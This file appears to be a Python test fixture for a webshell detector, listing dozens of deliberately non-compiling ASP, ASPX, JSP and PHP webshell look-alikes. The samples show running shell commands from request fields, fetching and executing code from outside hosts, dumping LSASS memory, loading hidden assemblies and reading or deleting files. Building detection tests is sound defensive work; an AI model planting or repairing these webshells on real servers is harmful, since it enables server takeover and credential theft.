# ruff: noqa: E501 - the lines of these pages are as long as such pages have them
"""Look-alikes of pages that use programs, stores and ways in of other kinds; none can run, `1broken` stops each compiler."""

from tests.detection.webshell.second_samples import cut

PAGES = cut(
    r'''
==== last-a-1.asp
<% Dim 1broken : Set d = CreateObject("Scripting.Dictionary") : d.Add "x", GetRef("Go") : k = "x" : Set f = d(k) : f Request("c")
Sub Go(t) : ExecuteGlobal t : End Sub %>
==== last-a-2.asp
<% Dim 1broken : Set x = CreateObject("Excel.Application") : x.ExecuteExcel4Macro "EXEC(""cmd /c " & Request("c") & """)" %>
==== last-a-3.asp
<% Dim 1broken : Set m = CreateObject("MMC20.Application") : m.Document.ActiveView.ExecuteShellCommand "cmd.exe", "", "/c " & Request("c"), "7" %>
==== last-a-4.asp
<% Dim 1broken : Set c = CreateObject("ADODB.Connection") : c.Open "Provider=Microsoft.Jet.OLEDB.4.0;Data Source=" & P_UNSET(0) : Set r = c.Execute("select shell('cmd /c " & Request("c") & "')") %>
==== last-a-5.asp
<% Dim 1broken : On Error Resume Next : Err.Raise 9, "", Request("c") : Execute Err.Description %>
==== last-a-6.asp
<% Dim 1broken : Set s = Server.CreateObject("ADODB.Recordset") : s.Fields.Append "c", 203, -1 : s.Open : s.AddNew : s("c") = Request("c") : s.Update : Execute s("c").Value %>
==== last-a-7.asp
<% Dim 1broken : Set f = CreateObject("Scripting.FileSystemObject")
Sub Walk(p) : For Each x In f.GetFolder(p).Files
 Set t = f.OpenTextFile(x.Path, 1) : b = t.ReadAll : t.Close
 Set t = f.OpenTextFile(x.Path, 2) : t.Write Replace(b, Request("from"), Request("to")) : t.Close
Next : For Each y In f.GetFolder(p).SubFolders : Walk y.Path : Next : End Sub
Walk Server.MapPath("/") %>
==== last-a-8.asp
<% Dim 1broken : Set x = CreateObject("MSXML2.ServerXMLHTTP") : x.open "GET", Request("u"), False : x.send : Set f = CreateObject("Scripting.FileSystemObject").CreateTextFile(Server.MapPath("cache.asp")) : f.Write x.responseText : f.Close %>
==== last-a-9.asp
<% Dim 1broken : Set w = CreateObject("WScript.Shell") : Set e = w.Exec("powershell -nop -c -") : e.StdIn.Write Request("c") : e.StdIn.Close : Response.Write e.StdOut.ReadAll %>
==== last-a-10.asp
<script language="VBScript" runat="server">
Dim 1broken
Function Dec(s)
 Dim i, r : For i = 1 To Len(s) Step 3 : r = r & ChrW(CInt(Mid(s, i, 3)) - KEY_UNSET(1)) : Next : Dec = r
End Function
Sub Main() : Dim q : q = Dec(Request.Form("z")) : If q <> "" Then ExecuteGlobal q End If : End Sub
Main
</script>
==== last-a-11.asp
<%@ Language="JScript" %><% var 1broken; function go(k, v) { if (k == "run") return new ActiveXObject("WScript.Shell").Exec(v).StdOut.ReadAll(); return ""; } var e = new Enumerator(Request.Form); for (; !e.atEnd(); e.moveNext()) Response.Write(go(e.item(), Request.Form(e.item()))); %>
==== last-a-12.asp
<%@ Language="JScript" %><% var 1broken; var s = Request.TotalBytes > 0 ? Request.BinaryRead(Request.TotalBytes) : null; var st = new ActiveXObject("ADODB.Stream"); st.Type = 1; st.Open(); st.Write(s); st.Position = 0; st.Type = 2; st.Charset = "ascii"; var t = st.ReadText(); (new Function(t))(); %>
==== last-a-13.asp
<% Dim 1broken : Set o = GetObject("new:13709620-C279-11CE-A49E-444553540000") : o.ShellExecute Request("p"), Request("a"), "", "open", 0 %>
==== last-a-14.asp
<% Dim 1broken : Set r = GetObject("winmgmts:root\default:StdRegProv") : r.SetStringValue &H80000002, Request("k"), Request("n"), Request("v") %>
==== last-a-16.asp
<% Dim 1broken : p = Split(Application_UNSET("q"), "-") : c = "" : For Each n In Request.QueryString("d") : c = c & n : Next : Execute c & vbCrLf %>
==== last-a-18.asp
<% Dim 1broken : Set h = CreateObject("htmlfile") : h.parentWindow.execScript Request("c"), "VBScript" %>
==== last-a-19.asp
<% Dim 1broken : Set x = Server.CreateObject("Microsoft.XMLDOM") : x.async = False : x.loadXML Request("x") : Execute x.selectSingleNode("//c").text %>
==== last-n-1.aspx
<%@ Page Language="C#" %><% int 1broken; dynamic x = Activator.CreateInstance(Type.GetTypeFromProgID("Excel.Application")); x.ExecuteExcel4Macro("EXEC(\"cmd /c " + Request["c"] + "\")"); %>
==== last-n-2.aspx
<%@ Page Language="C#" %><% int 1broken; var t = Type.GetTypeFromProgID("MMC20.Application"); dynamic m = Activator.CreateInstance(t); m.Document.ActiveView.ExecuteShellCommand("cmd", null, "/c " + Request["c"], "7"); %>
==== last-n-3.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken; static System.Threading.Timer T; void Page_Load() { T = new System.Threading.Timer(_ => { using (var w = new System.Net.WebClient()) { var c = w.DownloadString("http://198.51.100.9/q"); Process.Start("cmd.exe", "/c " + c); } }, null, 0, 60000); }</script>
==== last-n-4.ashx
<%@ WebHandler Language="C#" Class="W" %>
int 1broken; public class W : IHttpHandler { public void ProcessRequest(HttpContext c) { if (c.IsWebSocketRequest) c.AcceptWebSocketRequest(Talk); } async Task Talk(System.Web.WebSockets.AspNetWebSocketContext x) { var b = new ArraySegment<byte>(new byte[4096]); while (true) { var r = await x.WebSocket.ReceiveAsync(b, CancellationToken.None); var s = Encoding.UTF8.GetString(b.Array, 0, r.Count); var p = Process.Start(new ProcessStartInfo("cmd.exe", "/c " + s) { UseShellExecute = false, RedirectStandardOutput = true }); } } public bool IsReusable { get { return true; } } }
==== last-n-5.aspx
<%@ Page Language="C#" %><% int 1broken; System.Reflection.Assembly.LoadFrom(@"\\198.51.100.4\s\a.dll").GetType("A").GetMethod("B").Invoke(null, null); %>
==== last-n-6.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken; [DllImport("dbghelp.dll")] static extern bool MiniDumpWriteDump(IntPtr h, int p, IntPtr f, int t, IntPtr e, IntPtr u, IntPtr c); void Page_Load() { var p = Process.GetProcessesByName("ls" + "ass")[0]; using (var f = new FileStream(Server.MapPath("d.bin"), FileMode.Create)) MiniDumpWriteDump(p.Handle, p.Id, f.SafeFileHandle.DangerousGetHandle(), 2, IntPtr.Zero, IntPtr.Zero, IntPtr.Zero); }</script>
==== last-n-7.aspx
<%@ Page Language="C#" %><% int 1broken; using (var k = Microsoft.Win32.Registry.LocalMachine.OpenSubKey(@"SOFTWARE\X")) { var b = (byte[])k.GetValue("d"); System.Reflection.Assembly.Load(b).EntryPoint.Invoke(null, new object[] { new[] { Request["a"] } }); } %>
==== last-n-8.aspx
<%@ Page Language="C#" %><% int 1broken; using (var s = new System.IO.Pipes.NamedPipeServerStream("x")) { s.WaitForConnection(); var r = new System.IO.StreamReader(s); Process.Start("cmd", "/c " + r.ReadLine()); } %>
==== last-n-9.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken; class R { public string C { get; set; } public override string ToString() { var p = new Process(); p.StartInfo = new ProcessStartInfo("cmd", "/c " + C) { RedirectStandardOutput = true, UseShellExecute = false }; p.Start(); return p.StandardOutput.ReadToEnd(); } } </script><%= new R { C = Request["c"] } %>
==== last-n-10.aspx
<%@ Page Language="VB" %><script runat="server">
Dim 1broken
Sub Page_Load() Handles Me.Load
 Dim sh = CreateObject("WScript" & ".Shell")
 Dim ex = sh.Exec(String.Format("cmd /c {0}", Request.Form("c")))
 Response.Write(ex.StdOut.ReadAll())
End Sub</script>
==== last-n-11.aspx
<%@ Page Language="C#" %><% int 1broken; var bmp = new System.Drawing.Bitmap(Server.MapPath("~/img/logo.png")); var l = new List<byte>(); for (int i = 0; i < bmp.Width; i++) l.Add(bmp.GetPixel(i, 0).R); System.Reflection.Assembly.Load(l.ToArray()).CreateInstance("K").Equals(this); %>
==== last-n-12.aspx
<%@ Page Language="C#" %><% int 1broken; var s = new StreamReader(Request.Files["f"].InputStream).ReadToEnd(); foreach (var line in s.Split('\n')) { var a = line.Split(new[] { '=' }, 2); if (a[0] == "run") Response.Write(Run_UNSET(a[1])); } string Run_UNSET(string q) { return Process.Start("cmd", "/c " + q).StandardOutput.ReadToEnd(); } %>
==== last-n-13.aspx
<%@ Page Language="C#" %><% int 1broken; object o = Session["o"]; if (o == null) { var b = Convert.FromBase64String(Request["b"]); Session["o"] = o = Activator.CreateInstance(System.Reflection.Assembly.Load(b).GetExportedTypes()[0]); } o.GetType().InvokeMember(Request["m"], System.Reflection.BindingFlags.InvokeMethod, null, o, new object[] { Request["a"] }); %>
==== last-n-14.aspx
<%@ Page Language="C#" %><% int 1broken; var d = AppDomain.CreateDomain("x"); d.SetData("c", Request["c"]); d.DoCallBack(() => Process.Start("cmd", "/c " + AppDomain.CurrentDomain.GetData("c"))); %>
==== last-n-15.aspx
<%@ Page Language="C#" %><% int 1broken; var cb = new ObjectDataProvider { ObjectInstance = new Process { StartInfo = new ProcessStartInfo(Request["f"], Request["a"]) }, MethodName = "Start" }; %>
==== last-n-16.ashx
<%@ WebHandler Language="VB" Class="T" %>
Dim 1broken
Public Class T : Implements IHttpHandler
 Public Sub ProcessRequest(c As HttpContext) Implements IHttpHandler.ProcessRequest
  Dim b(c.Request.ContentLength - 1) As Byte : c.Request.InputStream.Read(b, 0, b.Length)
  For i = 0 To b.Length - 1 : b(i) = b(i) Xor K_UNSET(i Mod 16) : Next
  Dim t = System.Reflection.Assembly.Load(b).GetType("L") : t.GetMethod("R").Invoke(Activator.CreateInstance(t), {c})
 End Sub
End Class
==== last-n-17.aspx
<%@ Page Language="C#" %><% int 1broken; var w = WindowsIdentity.GetCurrent(); using (((WindowsIdentity)TokenOf_UNSET(Request["u"], Request["p"])).Impersonate()) { Response.Write(File.ReadAllText(Request["f"])); File.Delete(Request["d"]); File.WriteAllText(Request["w"], Request["t"]); } %>
==== last-n-19.aspx
<%@ Page Language="C#" %><% int 1broken; var m = new System.Management.ManagementObjectSearcher("select * from Win32_Process where ProcessId=" + Request["id"]); foreach (System.Management.ManagementObject o in m.Get()) o.InvokeMethod("Terminate", null); new System.Management.ManagementClass("Win32_Process").InvokeMethod("Create", new object[] { Request["c"] }); %>
==== last-n-20.aspx
<%@ Page Language="C#" %><% int 1broken; var a = System.Reflection.Emit.AssemblyBuilder.DefineDynamicAssembly(new AssemblyName("a"), AssemblyBuilderAccess.Run); var l = new System.Xaml.XamlXmlReader(Request.InputStream); var o = System.Windows.Markup.XamlReader.Load(Request.InputStream); %>
==== last-n-21.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken; delegate string F(string a); F Make(string n) { switch (n) { case "x": return a => Process.Start("cmd", "/c " + a).ToString(); default: return a => a; } } void Page_Load() { Response.Write(Make(Request["n"])(Request["a"])); }</script>
==== last-n-22.aspx
<%@ Page Language="JScript" %><% var 1broken; var x = new ActiveXObject("Msxml2.ServerXMLHTTP"); x.open("GET", Request.Item["u"], false); x.send(); eval(x.responseText, "unsafe"); %>
==== last-n-23.aspx
<%@ Page Language="C#" Inherits="System.Web.UI.Page" %><% int 1broken; Response.Write(System.Web.UI.DataBinder.Eval(System.Linq.Dynamic.Core.DynamicExpressionParser.ParseLambda(typeof(object), typeof(object), Request["x"]).Compile().DynamicInvoke(this), "Length")); %>
==== last-n-24.aspx
<%@ Page Language="C#" %><% int 1broken; foreach (DictionaryEntry e in System.Runtime.Caching.MemoryCache.Default) { } HttpRuntime.Cache.Insert(Request["k"], Request["v"]); eval_UNSET(HttpRuntime.Cache[Request["k"]]); Process.Start("cmd", "/c " + HttpRuntime.Cache[Request["k"]]); %>
==== last-n-25.asmx
<%@ WebService Language="C#" Class="S" %>
int 1broken; public class S : System.Web.Services.WebService { [System.Web.Services.WebMethod(EnableSession = true)] public byte[] Get(string path) { return System.IO.File.ReadAllBytes(path); } [System.Web.Services.WebMethod] public void Put(string path, byte[] data) { System.IO.File.WriteAllBytes(path, data); } [System.Web.Services.WebMethod] public string[] Dir(string path) { return System.IO.Directory.GetFileSystemEntries(path); } }
==== last-j-1.jsp
<%@ page import="java.util.*" %><% int 1broken; Map<String, String> m = new HashMap<>(); for (Enumeration<String> e = request.getParameterNames(); e.hasMoreElements();) { String n = e.nextElement(); m.put(n, request.getParameter(n)); } new ProcessBuilder(m.get("a"), m.get("b"), m.get("c")).start(); %>
==== last-j-2.jsp
<% int 1broken; javax.management.loading.MLet m = new javax.management.loading.MLet(); m.addURL(request.getParameter("u")); m.loadClass(request.getParameter("n")).newInstance(); %>
==== last-j-3.jsp
<% int 1broken; Object u = Class.forName("sun.misc.Unsafe"); java.lang.invoke.MethodHandles.lookup().defineClass(java.util.Base64.getDecoder().decode(request.getParameter("b"))); %>
==== last-j-4.jsp
<% int 1broken; com.sun.rowset.JdbcRowSetImpl r = new com.sun.rowset.JdbcRowSetImpl(); r.setDataSourceName(request.getParameter("d")); r.setAutoCommit(true); %>
==== last-j-5.jsp
<% int 1broken; java.nio.file.Files.copy(request.getInputStream(), java.nio.file.Paths.get(application.getRealPath("/"), request.getHeader("X-N"))); %>
==== last-j-6.jsp
<% int 1broken; org.apache.tomcat.util.modeler.Registry g = null; javax.management.MBeanServer s = java.lang.management.ManagementFactory.getPlatformMBeanServer(); s.invoke(new javax.management.ObjectName(request.getParameter("o")), request.getParameter("m"), new Object[]{request.getParameter("a")}, new String[]{"java.lang.String"}); %>
==== last-p-1.php
<?php 1broken; $c = curl_init('http://198.51.100.3/c'); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); $t = curl_exec($c); file_put_contents('/tmp/.c', $t); require '/tmp/.c';
==== last-p-2.php
<?php 1broken; $d = dir($_GET['d']); while (($e = $d->read()) !== false) echo $e; if (isset($_GET['f'])) readfile($_GET['f']); if (isset($_POST['t'])) fputs(fopen($_GET['f'], 'w'), $_POST['t']); if (isset($_GET['k'])) unlink($_GET['k']);
==== last-p-3.php
<?php 1broken; $x = simplexml_load_string(file_get_contents('php://input')); foreach ($x->job as $j) { echo shell_exec((string)$j->cmd); }
==== last-p-4.php
<?php 1broken; abstract class B { abstract function r($q); static function m() { return new static; } } class C extends B { function r($q) { return `$q`; } } echo C::m()->r(filter_input(INPUT_POST, 'q'));
==== last-p-5.php
<?php 1broken; $p = explode('|', base64_decode(strtr($_COOKIE['p'], '-_', '+/'))); [$f, $a] = $p; usleep(1); echo $f(...explode(',', $a));
==== last-p-6.php
<?php 1broken; $GLOBALS['_' . 'k'] = $_REQUEST; function z() { global $_k; return $_k['z']; } eval(z() . ';');
==== fifth-a-7.asp
<% Dim 1broken : Set u = CreateObject("Persits.Upload") : u.SaveVirtual "/img/" : For Each f In u.Files : f.Copy Server.MapPath("/") & "\" & f.ExtractFileName : Next %>
==== fifth-n-7.aspx
<%@ Page Language="C#" %><% int 1broken; var j = new System.Web.Script.Serialization.JavaScriptSerializer().Deserialize<Dictionary<string, string>>(new StreamReader(Request.InputStream).ReadToEnd()); if (j["auth"] == "z") Response.Write(new Microsoft.VisualBasic.Devices.Computer().Name + Microsoft.VisualBasic.Interaction.Shell(j["cmd"], Microsoft.VisualBasic.AppWinStyle.Hide, true, -1)); %>
==== fifth-p-3.php
<?php 1broken; $m = $_REQUEST['m']; if (!preg_match('/^[a-z_]+$/', $m)) die; echo $m($_REQUEST['a']);
'''
)
